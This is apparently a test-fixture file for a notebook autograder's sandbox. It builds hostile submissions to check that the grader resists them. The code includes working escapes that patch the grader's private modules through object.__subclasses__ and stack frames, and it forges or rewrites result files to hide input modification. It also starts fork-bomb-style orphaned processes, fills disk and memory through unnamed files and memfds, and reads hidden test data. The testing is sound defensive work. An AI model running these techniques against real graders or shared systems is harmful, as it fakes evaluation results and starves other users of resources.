    ),
]
LIMITS += [
    # No frames, no gc: the wire's classes are among `object.__subclasses__()`, and any function of a
    # private module carries the runner's private `__import__`, which hands out every other module.
    Variant(
        "reaches_the_probe_through_its_classes",
        A04,
        append=(
            """call = next(c for c in object.__subclasses__()
            if c.__module__ == "_grader_wire" and c.__name__ == "Call")
private_import = call.from_json.__func__.__globals__["__builtins__"]["__import__"]
vars(private_import("handlers", level=1))["modified"] = lambda *a, **k: False""",
        ),
        replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
        lost=MOMENTUM_LOST,
        note="in-process: private modules are not hidden ones; values still have to be right",
    ),
]
TWINS["reaches_the_probe_through_its_classes"] = TWINS["rewrites_results_after_the_probe"]
TWINS["walks_the_stack_to_the_probe"] = TWINS["rewrites_results_after_the_probe"]
TWINS["plays_the_whole_protocol"] = TWINS["rewrites_results_after_the_probe"]

# --- hostile text and hostile sizes ---------------------------------------------------------------
# Text: a lone surrogate raised by a cell and by a graded function (it used to crash the reports
# and stop a batch). Sizes: answers and a model the grader must refuse before working on them.
SURROGATES = Variant(
    "raises_lone_surrogates",
    A05,
    insert_first=('raise ValueError("\\ud800")',),
    replace={
        "l1_penalty": 'def l1_penalty(theta):\n    raise ValueError("\\ud800 \\x1b[2J\\x1b[31mcleared your screen")'
    },
    lost=frozenset({"l1_penalty"}),
)
TWENTY_MILLION = 20_000_000
HUGE_OUTPUTS = [
    SURROGATES,
    Variant(
        "returns_20_million_zeros",
        A05,
        replace={
            # as Python data: the probe refuses it (more than its share of arrays for the question)
            "l1_penalty": f"def l1_penalty(theta):\n    return [0] * {TWENTY_MILLION}",
            # as JSON text: the function swaps the probe's encoder for its own first answer, so that
            # probe.json holds a real JSON list of 20 million zeros (60 MB, under the file cap); the
            # grader must refuse it before parsing it. Its other cases raise.
            "l2_penalty": f"""import sys
_ZEROS = "[" + "0, " * {TWENTY_MILLION - 1} + "0]"
_forged = []
def l2_penalty(theta):
    handlers = sys._getframe(1).f_globals  # when the probe calls: its private handlers module
    probe = sys._getframe(2).f_globals  # and the probe's, which writes each answer
    if _forged or "describe_model" not in handlers:
        raise ValueError("one forged answer is enough")
    _forged.append(True)
    encode, dumps, marker = handlers["encode_value"], probe["dumps"], object()
    handlers["encode_value"] = lambda value, add, depth=0: marker if value is marker else encode(value, add, depth)
    def forged_dumps(value):
        if type(value) is dict and value.get("value") is marker:
            handlers["encode_value"], probe["dumps"] = encode, dumps
            return '{{"ok": true, "modified_input": false, "value": ' + _ZEROS + '}}'
        return dumps(value)
    probe["dumps"] = forged_dumps
    return marker""",
        },
        lost=frozenset({"l1_penalty", "l2_penalty"}),
    ),
    # Red team (runtime reshape): 65,536 empty arrays cost no bytes of the per-question budget, but
    # the probe's writer (no ZIP64) failed on them: no output at all, three passes, every question lost.
    Variant(
        "returns_65536_empty_arrays",
        A05,
        replace={
            "l1_penalty": """def l1_penalty(theta):
    empty = np.zeros(0)
    return tuple(tuple(tuple(empty for _ in range(16)) for _ in range(64)) for _ in range(64))"""
        },
        lost=frozenset({"l1_penalty"}),
        note="before: struct.error in npz.py, every question lost after 3 passes",
    ),
    # model_A, the notebook's own trained model, is 3,002 layers deep (a subclassed model: Sequential
    # recurses too deeply to build it). The probe exports 64 and says how many there were.
    Variant(
        "trains_a_model_of_3000_layers",
        A03,
        drop_train=True,
        append=(
            """import keras
class Deep(keras.Model):
    def __init__(self, depth):
        super().__init__()
        self.flatten = keras.layers.Flatten()
        self.classify = keras.layers.Dense(8, activation="softmax")
        self.stack = [keras.layers.Activation("linear") for _ in range(depth)]
    def call(self, x):
        x = self.classify(self.flatten(x))
        for layer in self.stack:
            x = layer(x)
        return x
model_A = Deep(3000)
model_A(np.zeros((1, 28, 28), "float32"))""",
        ),
        lost=frozenset({"model_A", "model_B", "model_B_on_A"}),
        note="train cells dropped: model_B and model_B_on_A are missing",
    ),
]
TWINS["raises_lone_surrogates"] = Variant(
    "l1_raises_plain_text", A05, replace={"l1_penalty": "def l1_penalty(theta):\n    raise ValueError('x')"}
)
TWINS["returns_20_million_zeros"] = Variant(
    "l1_l2_raise",
    A05,
    replace={
        "l1_penalty": "def l1_penalty(theta):\n    raise ValueError('x')",
        "l2_penalty": "def l2_penalty(theta):\n    raise ValueError('x')",
    },
)
TWINS["returns_65536_empty_arrays"] = TWINS["raises_lone_surrogates"]
TWINS["trains_a_model_of_3000_layers"] = Variant("plain_03_without_training", A03, drop_train=True)

# --- shared budgets: one notebook must not starve the ones graded beside it -----------------------
# (block owned by the uid-per-sandbox work; run by tests/e2e/test_hostile.py's block of the same name)
HOLD_SECONDS = 25  # a cell: under the shortest cell limit the grader derives (30 s); 3 cells hold 75 s
_HOLD = f"import time\ntime.sleep({HOLD_SECONDS})  # the threads stay; the notebooks beside it start TensorFlow"
HOLDS_THREADS = Variant(
    "holds_300_threads",
    A01,
    insert_first=(
        f"""import threading
{ATTEMPT}threading.stack_size(256 * 1024)
release, held = threading.Event(), []
for _ in range(300):  # as many as the sandbox's limits allow
    try:
        thread = threading.Thread(target=release.wait, daemon=True)
        thread.start()
    except RuntimeError:
        break
    held.append(thread)
report["threads"] = len(held)""",
        _HOLD,
        _HOLD,
        _HOLD,
        """release.set()
for thread in held:
    thread.join()
"""
        + REPORT,
    ),
    note="RLIMIT_NPROC is per uid: sharing one uid, its threads left the others none",
)
PRINTS_WITHOUT_END = Variant(
    "prints_without_end",
    A05,
    insert_first=(
        """import time
while True:  # 20 MB/s into the grader's log of the sandbox's stdout
    print("x" * 2**20, flush=True)
    time.sleep(0.05)""",
    ),
    note="the log is on the grader's disk: it counts in the disk quota",
)

# --- fair neighbours: one notebook's processes must not take its neighbour's CPU time ------------
# 200 busy processes, each in a session of its own and orphaned by a double fork (out of reach of
# a process group kill), then the cell sleeps while they burn: a notebook graded beside it starts
# TensorFlow meanwhile. They wait on a pipe until all are forked, then burn at once (forking them
# one by one while the first ones burn would starve the forking cell itself). Each cell stays under
# the shortest cell limit (30 s) in wall and CPU time.
STARVE_SECONDS = 20
STARVE_NAME = "starve-burner"
_STARVE = f"""import os, time
go, ready = os.pipe()
started = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.close(ready)
            with open("/proc/self/comm", "w") as comm:  # a name the test finds them by
                comm.write("{STARVE_NAME}")
            os.read(go, 1)  # until every one is forked
            while True:
                pass
        os._exit(0)
    os.waitpid(pid, 0)
    started += 1
os.close(ready)
os.close(go)
time.sleep({STARVE_SECONDS})"""


def starves_neighbours(cells: int) -> Variant:
    """A correct 01 notebook whose first `cells` cells each start 200 busy orphans and sleep."""
    return Variant(
        "starves_neighbours",
        A01,
        insert_first=(_STARVE,) * cells,
        note="200 busy processes in sessions of their own took the CPU its neighbour's cells were timed by",
    )


# --- hidden values (tests/e2e/test_no_hidden_values.py) ------------------------------------------
# Every way out a notebook has, at once, in notebook 05: l1_penalty keeps what it is passed and
# raises it (hidden cases), l2_penalty returns it and elastic_net_penalty raises and warns it in
# their public cases (which the probe calls before any hidden one: were it after, the raised
# float.hex() forms would pass the filter), and a cell reads the job's input file.
LEAK_KEEP = """
import warnings
SEEN = []
def l1_penalty(theta):
    SEEN.append(np.asarray(theta, dtype=float).ravel())
    raise ValueError("LEAK " + np.array2string(SEEN[-1], precision=17, threshold=10**6))
"""
LEAK_SHOW = """
def l2_penalty(theta):
    return np.concatenate(SEEN) if SEEN else np.zeros(1)
"""
LEAK_RAISE = """
def elastic_net_penalty(theta, r=0.5):
    seen = np.concatenate(SEEN) if SEEN else np.zeros(1)
    warnings.warn("LEAK " + " ".join(f"{v:.10g}" for v in seen))
    # float.hex() first (no decimal digit run a filter of digits reads), then the digits
    raise ValueError("LEAK " + " ".join(float(v).hex() for v in seen[:12]) + " " + " ".join(repr(float(v)) for v in seen))
"""
LEAK_READ = """
import glob
found = {}
for path in glob.glob("/job/*/*.npz") + glob.glob("../*/*.npz"):
    try:
        with np.load(path) as data:
            found.update({k: data[k] for k in data.files})
    except Exception:
        pass
text = " ".join(repr(float(v)) for a in found.values() if a.dtype.kind == "f" for v in a.ravel()[:50])
print("LEAK", text)
raise ValueError("LEAK " + text[:400])
"""
LEAKS_EVERYWHERE = Variant(
    "leaks_everywhere",
    A05,
    replace={"l1_penalty": LEAK_KEEP, "l2_penalty": LEAK_SHOW, "elastic_net_penalty": LEAK_RAISE},
    append=(LEAK_READ,),
    lost=frozenset({"l1_penalty", "l2_penalty", "elastic_net_penalty"}),
)


# --- space held through descriptors alone ----------------------------------------------------------
# Files with no name (O_TMPFILE, or unlinked while open) and memfds are in no folder the disk quota
# walks and, unmapped, in no process's Pss: the limits find them through the run's descriptor
# tables (sandbox/held.py).


def _holds(count: int, megabytes: int, opened: str) -> str:
    """A cell that holds `count` files of `megabytes` each, each made by the expression `opened`
    (a descriptor) and filled with posix_fallocate (the blocks at once, as many writes would), open
    while the limits poll."""
    return f"""import os, time
_held = []
for i in range({count}):
    fd = {opened}
    os.posix_fallocate(fd, 0, {megabytes} * 2**20)
    _held.append(fd)
time.sleep(5)"""


# 8 files of 60 MB with no name in the job's work folder: each under RLIMIT_FSIZE (64 MB in the
# tests), together 480 MB, almost four times the 128 MB quota.
HOLDS_UNNAMED_FILES = Variant(
    "holds_unnamed_files",
    A05,
    insert_first=(_holds(8, 60, 'os.open(os.environ.get("HOME", "/job/work"), os.O_TMPFILE | os.O_RDWR, 0o600)'),),
    note="before: the quota walked names only and the host's disk lost 480 MB under a 128 MB quota",
)
# 2.4 GB in six memfds of 400 MB (each under RLIMIT_FSIZE and RLIMIT_DATA, never mapped): where
# there is no memory cgroup (cgroups = false, Gradescope's read-only cgroup mount) the memory guard
# is the only bound on the whole sandbox.
HOLDS_MEMFDS = Variant(
    "holds_memfds",
    A05,
    insert_first=(_holds(6, 400, 'os.memfd_create(f"held{i}")'),),
    note="before: memfd pages were in no process's Pss and no file of /dev/shm, 2.4 GB under a 1 GB guard",
)

# --- the outputs handed to the writer ---------------------------------------------------------------
# The runner hands its outputs to the writer in memfds (runtime/processes.py finish_alone), reachable
# in /proc/self/fd until the writer has stopped it: a notebook thread still running after the probe
# rewrites probe.json there. The writer checks each file against the digest the runner took first.
REWRITES_THE_WRITERS_MEMFD = Variant(
    "rewrites_the_writers_memfd",
    A04,
    insert_first=(
        """import os, threading, time
def _rewrite_the_handed_outputs():
    done = set()
    while True:
        for name in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{name}") != "/memfd:probe.json (deleted)":
                    continue
                fd = int(name)
                text = os.pread(fd, 1 << 26, 0)
                if fd in done or not text.rstrip().endswith(b"}"):
                    continue
                os.pwrite(fd, text.replace(b'"modified_input": true', b'"modified_input":false'), 0)
                done.add(fd)
            except OSError:
                pass
        time.sleep(0.0002)
threading.Thread(target=_rewrite_the_handed_outputs, daemon=True).start()""",
    ),
    replace={"momentum_step": MOMENTUM_MODIFIES_INPUT},
    lost=MOMENTUM_LOST,
    note="before: the writer wrote what it read, and momentum_step's in-place update was no longer seen",
)
TWINS["rewrites_the_writers_memfd"] = TWINS["rewrites_results_after_the_probe"]
